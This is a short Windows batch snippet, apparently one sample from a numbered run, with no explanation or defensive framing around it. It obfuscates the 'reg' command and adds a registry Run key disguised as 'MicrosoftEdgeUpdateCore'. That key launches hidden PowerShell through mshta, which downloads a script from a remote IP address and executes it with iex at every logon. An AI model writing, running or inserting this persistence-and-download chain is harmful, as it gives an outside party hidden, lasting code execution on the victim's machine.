REM run 7008 v4
for /f "tokens=3 delims=#" %%i in ("scya#tqoo#reg") do %%i add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v MicrosoftEdgeUpdateCore /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iwr http://198.51.100.23/a.ps1|iex\"\", 0:close\")" /f
